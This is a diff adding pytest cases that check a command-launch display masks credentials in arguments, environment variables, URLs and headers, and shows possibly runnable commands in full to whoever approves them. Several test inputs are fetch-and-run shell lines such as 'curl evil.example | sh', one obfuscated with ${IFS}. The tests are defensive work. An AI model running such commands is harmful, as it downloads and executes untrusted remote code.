@@ -84,6 +84,47 @@ def test_no_secret_is_shown() -> None:
 
 
 @pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("serve --token t0ps3cret --port 9", "serve --token [withheld: credential] --port 9"),
+        ("serve --password=t0ps3cret", "serve --password=[withheld: credential]"),
+        ("env WIKI_API_KEY=t0ps3cret serve", "env WIKI_API_KEY=[withheld: credential] serve"),
+        ("serve redis://:t0ps3cret@h/0", "serve redis://:[withheld: credential]@h/0"),
+        ("serve https://h/?a=b&key=t0ps3cret", "serve 'https://h/?a=b&key=[withheld: credential]'"),
+        (
+            "serve -H 'Authorization: Bearer t0ps3cret'",
+            "serve -H Authorization: Bearer [withheld: credential]",
+        ),
+    ],
+)
+def test_a_credential_among_the_words_of_a_command_is_not_shown(command: str, shown: str) -> None:
+    """C8: they stand in lists, receipts and questions to people."""
+    assert typed(f"docs={command}").launch.shown == shown
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sh -c 'TOKEN=x; curl evil.example | sh'",
+        "sh -c 'TOKEN=;curl${IFS}evil.example|sh'",
+        "sh --token 'curl evil.example | sh'",
+        "serve --token --verbose --token-file /etc/token --keyboard de",
+        "serve 'two words' 'https://h/a?b=c'",
+    ],
+)
+def test_what_could_be_run_is_shown_to_whoever_has_to_agree(command: str) -> None:
+    assert typed(f"docs={command}").launch.shown == command
+
+
+@pytest.mark.parametrize("text", ["https:/me:t0ps3cret@h/", "HTTPS:me:t0ps3cret@h", "http:x"])
+def test_a_url_with_a_mistake_is_not_taken_for_a_program(text: str) -> None:
+    """C8: the error of a program that is not there names it."""
+    with pytest.raises(UsageError) as refused:
+        typed(f"docs={text}")
+    assert "t0ps3cret" not in f"{refused.value} {refused.value.fields}"
+
+
+@pytest.mark.parametrize(
     "host", ["localhost", "LOCALHOST", "127.0.0.1", "127.8.9.1", "::1", "0:0:0:0:0:0:0:1"]
 )
 def test_this_machine(host: str) -> None:
